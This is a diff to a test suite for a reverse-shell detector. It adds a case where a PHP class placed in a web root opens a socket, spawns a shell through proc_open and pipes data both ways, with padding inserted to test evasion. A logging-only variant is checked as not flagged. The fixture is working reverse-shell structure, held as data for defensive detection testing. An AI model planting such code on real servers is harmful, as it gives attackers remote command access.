@@ -35,6 +35,28 @@ proc_open("/bin/sh", $d, $p);`;
     expect(reverseShell(addedFile('/tmp/r.php', text))?.severity).toBe('critical');
   });
 
+  it("finds both ends handed to a copier of the page's own, which writes through another", () => {
+    const text = `<?php
+class Shell {
+  function write($stream, $data) { return fwrite($stream, $data); }
+  function rw($input, $output) {
+    while (($data = fread($input, 1024)) && $this->write($output, $data)) {}
+  }
+  function run() {
+    $socket = @fsockopen($this->addr, $this->port, $errno, $errstr, 30);${padding(600)}
+    $process = @proc_open($this->shell, $this->spec, $pipes);
+    do {
+      $this->rw($socket, $pipes[0]);
+      $this->rw($pipes[1], $socket);
+    } while (!feof($socket));
+  }
+}`;
+    expect(reverseShell(addedFile('/var/www/html/r.php', text))?.severity).toBe('critical');
+    // The same class whose helper only logs what it is given: no data moves between the ends.
+    const logger = text.replace('return fwrite($stream, $data);', 'error_log($data);');
+    expect(reverseShell(addedFile('/var/www/html/r.php', logger))).toBeUndefined();
+  });
+
   it('leaves a mailer that opens a socket and a sendmail pipe, unconnected', () => {
     const text = `<?php
 $smtp = fsockopen($host, 25);
